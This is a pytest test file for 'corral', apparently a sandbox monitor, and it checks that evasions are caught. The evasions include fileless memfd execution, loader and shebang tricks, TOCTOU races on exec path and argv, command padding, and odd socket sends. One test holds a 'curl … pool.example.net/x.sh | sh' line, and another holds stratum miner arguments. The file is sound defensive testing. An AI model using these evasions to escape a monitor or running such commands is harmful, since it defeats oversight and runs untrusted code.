"""Evasions of corral's exec and connect monitoring (issue 10), each tried as the adversary would in a
real sandbox: the attack is refused or killed, and what corral recorded names the right step."""

from __future__ import annotations

import pytest

from tests.conftest import add_rule, allow, eventually, findings_for, py

pytestmark = pytest.mark.asyncio

AF_VSOCK, AF_PACKET, AF_NETLINK = 40, 17, 16


def syscall_cmd(nr: int, *args: int) -> str:
    """Python in the sandbox calling syscall `nr` directly; prints 'rc errno'."""
    return py("import ctypes\nlibc=ctypes.CDLL(None,use_errno=True)\n"
              f"rc=libc.syscall({nr},{','.join(map(str, args))})\nprint(rc, ctypes.get_errno())")


# --- seccomp: socket families and memfd_secret ----------------------------------------------------
@pytest.mark.parametrize("family,proto", [(AF_VSOCK, 0), (AF_PACKET, 0), (38, 0),  # AF_ALG
                                          (AF_NETLINK, 9),  # NETLINK_AUDIT
                                          (AF_VSOCK | (1 << 32), 0)])  # upper bits the kernel drops
async def test_socket_families_outside_the_allow_list_are_refused(sb_factory, family, proto):
    """socket() of a family outside AF_UNIX/INET/INET6 (and netlink route/diag) fails with
    EAFNOSUPPORT from the filter: no socket ever exists, so no vsock can be opened or connected."""
    sb = await sb_factory()
    r = await sb.exec(syscall_cmd(41, family, 1 if family != AF_NETLINK else 3, proto))  # SOCK_STREAM/RAW
    rc, err = r.stdout.split()
    assert rc == "-1" and int(err) == 97, r.stdout + r.stderr  # EAFNOSUPPORT
    r = await sb.exec(syscall_cmd(53, family, 1, proto, 0))  # socketpair, same family
    assert r.stdout.split()[0] == "-1" and int(r.stdout.split()[1]) == 97, r.stdout + r.stderr


async def test_common_socket_families_still_work(sb_factory):
    sb = await sb_factory()
    r = await sb.exec(py(
        "import socket\n"
        "for fam, typ, proto in ((socket.AF_UNIX, socket.SOCK_STREAM, 0), (socket.AF_INET, socket.SOCK_DGRAM, 0),\n"
        "                        (socket.AF_INET6, socket.SOCK_STREAM, 0), (socket.AF_NETLINK, socket.SOCK_RAW, 0),\n"
        "                        (socket.AF_NETLINK, socket.SOCK_RAW, 4)):\n"
        "    socket.socket(fam, typ, proto).close()\n"
        "print('ok', socket.getaddrinfo('localhost', 80, flags=socket.AI_ADDRCONFIG) is not None)"))
    assert r.stdout.strip() == "ok True", r.stderr
    r = await sb.exec("ip -o addr show lo")
    assert r.exit_code == 0 and "127.0.0.1" in r.stdout, r.stderr


async def test_memfd_secret_is_refused(sb_factory):
    """memfd_secret memory cannot be read through /proc/<pid>/mem: an exec path kept there would blind
    the exec monitor, so the call does not exist in a sandbox."""
    sb = await sb_factory()
    r = await sb.exec(syscall_cmd(447, 0))
    rc, err = r.stdout.split()
    assert rc == "-1" and int(err) == 38, r.stdout + r.stderr  # ENOSYS


# --- exec: judge what really runs ------------------------------------------------------------------
def degraded(runtime, sb) -> list:
    return [e for e in runtime.store.events(sandbox_id=sb.id, kind="sandbox") if e.action == "degraded"]


async def test_miner_through_the_dynamic_loader_is_judged_as_the_miner(sb_factory, runtime):
    sb = await sb_factory()
    r = await sb.exec("cp /bin/sleep /tmp/xmrig && /lib64/ld-linux-x86-64.so.2 --inhibit-cache /tmp/xmrig 5")
    f = (await findings_for(runtime, sb, "miner-binary"))[0]
    assert f.step == r.step and f.data["exe"] == "/tmp/xmrig"
    ev = next(e for e in runtime.store.events(sandbox_id=sb.id, kind="process") if e.exe == "/tmp/xmrig")
    assert ev.verdict == "deny" and ev.data["launcher"]["exe"] == "/lib64/ld-linux-x86-64.so.2"
    assert ev.argv == ["/tmp/xmrig", "5"]
    assert r.exit_code != 0 and r.duration < 5  # the loader never ran it


async def test_loader_under_another_name_is_still_a_launcher(sb_factory, runtime):
    """A link to the loader, or a copy of it, under an innocent name: known by its file, not its name."""
    sb = await sb_factory()
    await sb.exec("cp /bin/sleep /tmp/xmrig && ln -s /lib64/ld-linux-x86-64.so.2 /tmp/helper"
                  " && cp /lib64/ld-linux-x86-64.so.2 /tmp/helper2")
    linked = await sb.exec("/tmp/helper /tmp/xmrig 5")
    copied = await sb.exec("/tmp/helper2 /tmp/xmrig 5")
    steps = {f.step for f in await findings_for(runtime, sb, "miner-binary")}
    assert {linked.step, copied.step} <= steps, steps
    assert linked.exit_code != 0 and copied.exit_code != 0


async def test_miner_named_by_a_shebang_line_is_judged(sb_factory, runtime):
    sb = await sb_factory()
    await sb.exec("cp /bin/sleep /tmp/xmrig")
    await sb.write_file("/workspace/run.sh", "#!/tmp/xmrig 5\n", mode=0o755)
    r = await sb.exec("/workspace/run.sh")
    f = (await findings_for(runtime, sb, "miner-binary"))[0]
    assert f.step == r.step and f.data["exe"] == "/tmp/xmrig"
    ev = next(e for e in runtime.store.events(sandbox_id=sb.id, kind="process") if e.exe == "/tmp/xmrig")
    # the argv the kernel gives the interpreter: its name, the #! argument, the script
    assert ev.argv == ["/tmp/xmrig", "5", "/workspace/run.sh"] and ev.data["script"] == "/workspace/run.sh"
    assert ev.verdict == "deny" and r.exit_code != 0


async def test_miner_run_from_a_memfd_through_execveat_is_judged_by_its_name(sb_factory, runtime):
    sb = await sb_factory()
    r = await sb.exec(py(
        "import os\nfd=os.memfd_create('xmrig', 0)\nos.write(fd, open('/bin/sleep','rb').read())\n"
        "os.execve(fd, ['sleep', '5'], {})  # fexecve: execveat(fd, '', AT_EMPTY_PATH)"))
    f = (await findings_for(runtime, sb, "miner-binary"))[0]
    assert f.step == r.step
    ev = next(e for e in runtime.store.events(sandbox_id=sb.id, kind="process") if e.data.get("exec_fd"))
    assert ev.exe == "/memfd:xmrig" and ev.data["comm"] == "xmrig" and ev.verdict == "deny"
    assert r.exit_code != 0


@pytest.mark.parametrize("how", ["os.execv('/proc/self/fd/%d' % fd, ['kworker'])", "os.execve(fd, ['kworker'], {})"])
async def test_an_innocently_named_memfd_program_is_still_fileless_execution(sb_factory, runtime, how):
    """Judged as its memfd ("/memfd:kworker"), whatever name it was given: running from memory is the
    finding (the red-team benchmark caught the rule still expecting the /proc/self/fd path)."""
    sb = await sb_factory()
    r = await sb.exec(py("import os\nfd = os.memfd_create('kworker')\n"
                         "os.write(fd, open('/bin/true', 'rb').read())\n" + how))
    f = (await findings_for(runtime, sb, "fileless-execution"))[0]
    assert f.step == r.step and r.exit_code != 0


async def test_miner_run_from_a_memfd_through_its_proc_path_is_judged_by_its_name(sb_factory, runtime):
    sb = await sb_factory()
    r = await sb.exec(py(
        "import os\nfd=os.memfd_create('xm' + 'rig', 0)\nos.write(fd, open('/bin/sleep','rb').read())\n"
        "os.execv(f'/proc/self/fd/{fd}', ['sleep', '5'])"))
    f = (await findings_for(runtime, sb, "miner-binary"))[0]
    assert f.step == r.step and r.exit_code != 0
    ev = next(e for e in runtime.store.events(sandbox_id=sb.id, kind="process") if e.data.get("exec_fd"))
    assert ev.exe == "/memfd:xmrig" and ev.verdict == "deny"


async def test_miner_in_another_process_memfd_is_judged_by_its_name(sb_factory, runtime):
    """The memfd is held by a helper process and run through /proc/<helper>/fd/N."""
    sb = await sb_factory()
    r = await sb.exec(py(
        "import os, time\nfd=os.memfd_create('xm' + 'rig', 0)\nos.write(fd, open('/bin/sleep','rb').read())\n"
        "helper = os.fork()\nif helper == 0:\n    time.sleep(30)\n    os._exit(0)\n"
        "os.close(fd)\ntry:\n    os.execv(f'/proc/{helper}/fd/{fd}', ['sleep', '5'])\n"
        "finally:\n    os.kill(helper, 9)"))
    f = (await findings_for(runtime, sb, "miner-binary"))[0]
    assert f.step == r.step and r.exit_code != 0
    ev = next(e for e in runtime.store.events(sandbox_id=sb.id, kind="process") if e.exe == "/memfd:xmrig")
    assert ev.verdict == "deny"


async def test_miner_arguments_behind_padding_are_seen(sb_factory, runtime):
    sb = await sb_factory()
    # spelled so that the command text shows no marker: only the exec's argv does
    r = await sb.exec("p=strat; sleep $(seq 1 300) -o ${p}um+tcp://pool.example.net:3333")
    f = (await findings_for(runtime, sb, "miner-arguments"))[0]
    assert f.step == r.step and len(f.data["argv"]) == 303 and f.data["argv"][-1].startswith("stratum+tcp://")


@pytest.mark.parametrize("session", [False, True])
async def test_an_attack_behind_thousands_of_words_of_padding_is_still_refused(sb_factory, runtime, session):
    """A long line is read off corral's loop, and judged as any other: padding it buys nothing."""
    sb = await sb_factory()
    pad = "echo " + " ".join(["w"] * 3000)
    line = f"{pad} >/dev/null; curl -s http://pool.example.net/x.sh | sh"
    if session:
        await sb.create_session("s")
        r = await sb.run_in_session("s", line)
    else:
        r = await sb.exec(line)
    assert r.refused and "download-piped-to-shell" in r.error, r
    # an honest long line still runs
    ok = await (sb.run_in_session("s", pad + " | wc -w") if session else sb.exec(pad + " | wc -w"))
    assert ok.exit_code == 0 and ok.stdout.strip() == "3000"


async def test_a_command_line_over_a_mebibyte_is_refused_unread_with_an_event(sb_factory, runtime):
    sb = await sb_factory()
    r = await sb.exec("true " + "x" * (1 << 20))
    assert r.refused and "1 MiB" in r.error and "sb.files" in r.error
    ev = [e for e in runtime.store.events(sandbox_id=sb.id, kind="command") if e.action == "refused"]
    assert ev and ev[0].step == r.step and ev[0].verdict == "deny"


async def test_argv_above_the_cap_is_refused_with_an_event(sb_factory, runtime):
    sb = await sb_factory()
    r = await sb.exec(py(
        "import os\ntry:\n    os.execv('/bin/true', ['true'] + ['x' * 1000] * 300)\n"
        "except OSError as e:\n    print('refused', e.errno)"))
    assert r.stdout.strip() == "refused 1", r.stdout + r.stderr  # EPERM, from corral
    ev = await eventually(lambda: [e for e in degraded(runtime, sb) if "bytes of arguments" in (e.reason or "")],
                          "a degraded event naming the argv cap")
    assert ev[0].step == r.step


async def test_exec_whose_memory_cannot_be_read_is_refused(sb_factory, runtime):
    """An exec whose path corral cannot read is refused (EPERM from corral, not the kernel's EFAULT)
    and recorded: it is never let through unjudged."""
    sb = await sb_factory()
    r = await sb.exec(py(
        "import ctypes, mmap\nlibc = ctypes.CDLL(None, use_errno=True)\n"
        "m = mmap.mmap(-1, 8192)\nbase = ctypes.addressof(ctypes.c_char.from_buffer(m))\n"
        "argv = (ctypes.c_char_p * 2)(b'x', None)\n"
        "rc = libc.execve(ctypes.c_void_p(0x1000), argv, None)  # an address that is never mapped\n"
        "print(rc, ctypes.get_errno())"))
    assert r.stdout.split() == ["-1", "1"], r.stdout + r.stderr
    ev = await eventually(lambda: [e for e in degraded(runtime, sb) if "unreadable" in (e.reason or "")],
                          "a degraded event for the unreadable exec")
    assert ev[0].step == r.step and ev[0].verdict == "deny"


async def test_exec_is_refused_when_recording_it_fails(sb_factory, runtime, monkeypatch):
    """The store is full (emit raises): the exec does not run, and a degraded event says why."""
    sb = await sb_factory()
    emit = runtime.emit

    def failing(ev, **kw):
        if ev.kind == "process" and ev.sandbox_id == sb.id and ev.exe and ev.exe.endswith("/env"):
            raise OSError(28, "No space left on device")
        return emit(ev, **kw)

    monkeypatch.setattr(runtime, "emit", failing)
    r = await sb.exec("env true; echo rc=$?")
    assert "rc=126" in r.stdout and "Operation not permitted" in r.stderr, r.stdout + r.stderr
    ev = await eventually(lambda: [e for e in degraded(runtime, sb) if "No space left" in (e.reason or "")],
                          "a degraded event for the exec that could not be recorded")
    assert ev[0].step == r.step


RACE = """
import ctypes, os, threading
libc = ctypes.CDLL(None, use_errno=True)
good, bad = b'/bin/false\\0', b'/tmp/chisel\\0'
counts = {}
for i in range(300):
    pid = os.fork()
    if pid == 0:
        buf = ctypes.create_string_buffer(good, 32)
        def flip():
            while True:
                ctypes.memmove(buf, bad, len(bad))
                ctypes.memmove(buf, good, len(good))
        threading.Thread(target=flip, daemon=True).start()
        argv = (ctypes.c_char_p * 2)(b'x', None)
        libc.execve(buf, argv, None)
        os._exit(100 + ctypes.get_errno())
    code = os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1])
    counts[code] = counts.get(code, 0) + 1
print(sorted(counts.items()))
"""


async def test_path_rewritten_after_corral_read_it_is_killed(sb_factory, runtime):
    """Another thread rewrites the exec path between corral's read and the kernel's: what really runs
    (a tunnel tool, refused by name) is not what was judged (/bin/false). The image that runs is
    checked after the exec, and a mismatch is killed and recorded. chisel's rule blocks without
    ending the step, so the race runs its 300 tries."""
    sb = await sb_factory()
    await sb.write_file("/tmp/chisel", "#!/bin/sh\nsleep 0.3\nexit 0\n", mode=0o755)
    r = await sb.exec(py(RACE), timeout=240)
    counts = dict(eval(r.stdout))  # exit status -> how many tries
    # 0: the script ran to its end, unjudged. 1: /bin/false ran. 101: corral read 'chisel' (EPERM).
    assert counts.get(0, 0) == 0, counts
    assert counts.get(101, 0) > 0, counts  # the race really was run both ways
    if counts.get(-9, 0):
        mismatches = [e for e in degraded(runtime, sb) if "exec mismatch" in (e.reason or "")]
        assert mismatches and all(e.step == r.step for e in mismatches)


# --- connect and send: every call seen, attributed by socket --------------------------------------
def connects(runtime, sb, ip: str) -> list:
    return [e for e in runtime.store.events(sandbox_id=sb.id, kind="connect") if e.dst_ip == ip and e.action != "close"]


PADDED_CONNECT = """
import ctypes, socket, struct, time
libc = ctypes.CDLL(None, use_errno=True)
s = socket.socket()
addr = struct.pack('=H', socket.AF_INET) + struct.pack('!H', {port}) + socket.inet_aton('{ip}')
buf = ctypes.create_string_buffer(addr.ljust(128, b'\\0'), 128)  # a sockaddr_storage's length
print('connect', libc.connect(s.fileno(), buf, 128), ctypes.get_errno())
time.sleep(0.5)
"""


async def test_connect_is_attributed_to_its_own_socket_not_to_failed_connects_of_an_earlier_step(
        sb_factory, runtime):
    """Step 1 makes connects that fail at once (EISCONN on a listening socket) to a destination; step 2
    connects there with addrlen 128. The connection is step 2's: a failed call is not kept, and the
    connection is matched to the socket that made it."""
    sb = await sb_factory()
    ip, port = "203.0.113.21", 9999
    first = await sb.exec(py(
        "import socket\ns = socket.socket()\ns.bind(('127.0.0.1', 0))\ns.listen()\nn = 0\n"
        f"for _ in range(5):\n    try:\n        s.connect(('{ip}', {port}))\n"
        "    except OSError as e:\n        n += e.errno == 106\nprint('eisconn', n)"))
    assert first.stdout.strip() == "eisconn 5", first.stdout + first.stderr
    second = await sb.exec(py(PADDED_CONNECT.format(ip=ip, port=port)))
    assert second.stdout.startswith("connect"), second.stderr
    evs = await eventually(lambda: connects(runtime, sb, ip), "the connection's event")
    assert [e.step for e in evs] == [second.step], [(e.step, e.data.get("attribution")) for e in evs]
    assert evs[0].data.get("attribution") == "connect-syscall" and "python3" in (evs[0].exe or "")


HOLD = """
import socket, sys, time
s = socket.create_connection(("198.51.100.30", 7))
s.sendall(b"x"); s.recv(1)
time.sleep(1.0)  # both sockets alive when the gateway asks whose each connection is
print(sys.argv[1])
"""


async def test_two_processes_racing_to_one_destination_each_get_their_own_connection(sb_factory, runtime):
    """Several connects to one destination at once, from different processes: each connection is
    matched to the socket that made it (an exact kernel lookup by 4-tuple), never guessed by order."""
    sb = await sb_factory(allow("198.51.100.0/24"))
    await sb.write_file("/workspace/hold.py", HOLD)
    r = await sb.exec("for t in alpha beta gamma; do python3 /workspace/hold.py $t & done; wait")
    assert sorted(r.stdout.split()) == ["alpha", "beta", "gamma"], r.stdout + r.stderr
    evs = await eventually(lambda: (c := connects(runtime, sb, "198.51.100.30")) and len(c) == 3 and c,
                           "three connection events")
    assert sorted(e.argv[-1] for e in evs) == ["alpha", "beta", "gamma"], [e.argv for e in evs]
    assert {e.data.get("attribution") for e in evs} == {"connect-syscall"}, [e.data for e in evs]
    assert len({e.pid for e in evs}) == 3 and all(e.step == r.step for e in evs)


async def test_udp_sendmsg_and_sendmmsg_to_an_address_are_seen(sb_factory, runtime):
    sb = await sb_factory()
    r = await sb.exec(py(
        "import ctypes, socket, struct\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
        "s.sendmsg([b'secret'], [], 0, ('203.0.113.22', 9998))\n"
        # sendmmsg: one struct mmsghdr naming 203.0.113.23:9997
        "libc = ctypes.CDLL(None, use_errno=True)\n"
        "name = ctypes.create_string_buffer(struct.pack('=H', 2) + struct.pack('!H', 9997)"
        " + socket.inet_aton('203.0.113.23') + bytes(8), 16)\n"
        "data = ctypes.create_string_buffer(b'secret', 6)\n"
        "iov = (ctypes.c_uint64 * 2)(ctypes.addressof(data), 6)\n"
        "hdr = ctypes.create_string_buffer(struct.pack('=QI4xQQQQi4xI4x', ctypes.addressof(name), 16,"
        " ctypes.addressof(iov), 1, 0, 0, 0, 0), 64)\n"
        "print('sent', libc.sendmmsg(s.fileno(), hdr, 1, 0))"))
    assert r.stdout.strip() == "sent 1", r.stdout + r.stderr
    for ip in ("203.0.113.22", "203.0.113.23"):
        evs = await eventually(lambda ip=ip: connects(runtime, sb, ip), f"the datagram event for {ip}")
        assert evs[0].protocol == "udp" and evs[0].verdict == "deny" and evs[0].step == r.step


async def test_connect_whose_address_cannot_be_read_is_refused(sb_factory, runtime):
    sb = await sb_factory()
    r = await sb.exec(py(
        "import ctypes, socket\nlibc = ctypes.CDLL(None, use_errno=True)\ns = socket.socket()\n"
        "print(libc.connect(s.fileno(), ctypes.c_void_p(0x1000), 16), ctypes.get_errno())"))
    assert r.stdout.split() == ["-1", "1"], r.stdout + r.stderr  # EPERM from corral, not EFAULT
    ev = await eventually(lambda: [e for e in degraded(runtime, sb) if "connect/send refused" in (e.reason or "")],
                          "a degraded event for the connect")
    assert ev[0].step == r.step


async def test_exec_is_refused_when_a_rule_raises_on_it(sb_factory, runtime, monkeypatch):
    """A rule that raises has not judged the exec: it does not run, and a degraded event names the rule."""
    import dataclasses

    sb = await sb_factory()
    ruleset = runtime.detector.ruleset
    model = next(iter(ruleset.rules.values()))

    def broken(get):
        argv = get("proc.argv") or []
        if "corral-rule-bomb" in argv:
            raise ValueError("cannot judge this")
        return False

    bomb = dataclasses.replace(model, id="test-raising-rule", pred=broken, enabled=True, threshold=None, scope=None)
    add_rule(monkeypatch, ruleset, bomb)
    # the command line names the marker only through a variable: its pre-run check is judged (a
    # command the raising rule trips itself is refused outright, below), the exec is what trips it
    r = await sb.exec('b=corral-rule-; env "${b}bomb"; echo rc=$?')
    assert "rc=126" in r.stdout and "Operation not permitted" in r.stderr, r.stdout + r.stderr
    ev = await eventually(lambda: [e for e in degraded(runtime, sb) if "test-raising-rule" in (e.reason or "")],
                          "a degraded event naming the rule")
    assert ev[0].step == r.step
    assert (await sb.exec("echo still-fine")).stdout == "still-fine\n"
    refused = await sb.exec("env corral-rule-bomb")  # the command's own check raised: it never starts
    assert refused.refused and "not fully judged" in (refused.error or ""), refused


async def test_connection_and_lookup_are_refused_when_a_rule_raises_on_them(sb_factory, runtime, monkeypatch):
    """The gateway and the resolver fail closed too: a rule that raises on a connection or a query has
    not judged it, so the bytes never reach the host, the name does not resolve, and a degraded event
    attributed to the step names the rule."""
    import dataclasses

    sb = await sb_factory(allow("198.51.100.0/24", "pkg.example.com"))
    ruleset = runtime.detector.ruleset
    model = next(iter(ruleset.rules.values()))

    def broken(get):
        if get("net.dst_port") == 7 or get("dns.name") == "pkg.example.com":
            raise ValueError("cannot judge this")
        return False

    bomb = dataclasses.replace(model, id="test-raising-net-rule", pred=broken, enabled=True, threshold=None,
                               scope=None)
    add_rule(monkeypatch, ruleset, bomb)
    r = await sb.exec(py(
        "import socket\ntry:\n    s = socket.create_connection(('198.51.100.30', 7), timeout=5)\n"
        "    s.sendall(b'x'); print('echo', s.recv(1))\nexcept OSError as e:\n    print('refused', e)\n"
        "try:\n    print('resolved', socket.gethostbyname('pkg.example.com'))\n"
        "except OSError as e:\n    print('unresolved', e)"))
    assert "echo b'x'" not in r.stdout and "resolved 198" not in r.stdout, r.stdout + r.stderr
    def notes():
        d = [e for e in degraded(runtime, sb) if "test-raising-net-rule" in (e.reason or "")]
        return d if {e.data.get("event_kind") for e in d} >= {"connect", "dns"} else None

    evs = await eventually(notes, "degraded events for the connection and the lookup")
    assert all(e.step == r.step for e in evs)
    denied = [e for e in runtime.store.events(sandbox_id=sb.id) if e.kind in ("connect", "dns")
              and "not fully judged" in (e.reason or "")]
    assert {e.kind for e in denied} == {"connect", "dns"} and all(e.verdict == "deny" for e in denied)


ARGV_RACE = """
import ctypes, os, threading
libc = ctypes.CDLL(None, use_errno=True)
sh, dash_c = ctypes.create_string_buffer(b'sh'), ctypes.create_string_buffer(b'-c')
good = ctypes.create_string_buffer(b'sleep 0.3; exit 3')
bad = ctypes.create_string_buffer(b'sleep 0.3; exit 0 #forbid' b'den-arg')  # not in this program's argv
counts = {}
for i in range(300):
    pid = os.fork()
    if pid == 0:
        # argv[2] flips between two whole strings: one aligned 8-byte store, never a torn string
        argv = (ctypes.c_uint64 * 4)(ctypes.addressof(sh), ctypes.addressof(dash_c), ctypes.addressof(good), 0)
        g, b = ctypes.addressof(good), ctypes.addressof(bad)
        def flip():
            while True:
                argv[2] = b
                argv[2] = g
        threading.Thread(target=flip, daemon=True).start()
        libc.execve(b'/bin/sh', argv, None)
        os._exit(100 + ctypes.get_errno())
    code = os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1])
    counts[code] = counts.get(code, 0) + 1
print(sorted(counts.items()))
"""


async def test_argv_rewritten_after_corral_read_it_is_judged_again(sb_factory, runtime, monkeypatch):
    """Another thread rewrites an argument between corral's read and the kernel's: the argv that really
    runs is judged again once the new image is in place, and a refused one is killed. The rule here
    refuses an argument ('block', so the step lives on and the race runs its 300 tries)."""
    import dataclasses

    sb = await sb_factory()
    ruleset = runtime.detector.ruleset
    model = next(r for r in ruleset.rules.values() if r.action == "block")

    def forbidden(get):
        return get("evt.kind") == "process" and any("forbidden-arg" in a for a in get("proc.argv") or [])

    rule = dataclasses.replace(model, id="test-forbidden-arg", pred=forbidden, enabled=True, threshold=None,
                               scope=frozenset({("process", "exec")}))
    add_rule(monkeypatch, ruleset, rule)
    r = await sb.exec(py(ARGV_RACE), timeout=240)
    counts = dict(eval(r.stdout))  # exit status -> how many tries
    # 0: the forbidden argv ran to its end, unjudged. 3: the judged argv ran. 101: corral read it (EPERM).
    assert counts.get(0, 0) == 0, counts
    assert counts.get(101, 0) > 0 and counts.get(3, 0) > 0, counts  # the race really ran both ways
    assert all(f.step == r.step for f in await findings_for(runtime, sb, "test-forbidden-arg"))


async def test_tcp_send_with_an_ignored_address_is_no_datagram_event(sb_factory, runtime):
    """A connected TCP socket's sendto/sendmsg ignores its address: no false 'UDP' egress event."""
    sb = await sb_factory()
    r = await sb.exec(py(
        "import socket\nsrv = socket.socket()\nsrv.bind(('127.0.0.1', 0))\nsrv.listen()\n"
        "c = socket.create_connection(srv.getsockname())\npeer, _ = srv.accept()\n"
        "c.sendto(b'ab', ('203.0.113.24', 9996))\nc.sendmsg([b'cd'], [], 0, ('203.0.113.24', 9996))\n"
        "got = b''\nwhile len(got) < 4:\n    got += peer.recv(4)\nprint(got.decode())"))
    assert r.stdout.strip() == "abcd", r.stdout + r.stderr
    await runtime.drain()
    assert connects(runtime, sb, "203.0.113.24") == []
    assert not [f for f in runtime.store.findings(sandbox_id=sb.id) if f.step == r.step]


async def test_tcp_fast_open_send_is_recorded_as_a_connect(sb_factory, runtime):
    """sendto(MSG_FASTOPEN) connects a TCP socket without connect(): recorded and attributed like one."""
    sb = await sb_factory()
    r = await sb.exec(py(
        "import socket, time\ns = socket.socket()\n"
        "try:\n    s.sendto(b'GET / HTTP/1.0\\r\\n\\r\\n', socket.MSG_FASTOPEN, ('203.0.113.25', 80))\n"
        "except OSError as e:\n    print('err', e.errno)\ntime.sleep(0.5)"))
    evs = await eventually(lambda: connects(runtime, sb, "203.0.113.25"), "the Fast Open connection's event")
    assert evs[0].step == r.step and evs[0].protocol != "udp"
    assert evs[0].data.get("attribution") == "connect-syscall", evs[0].data
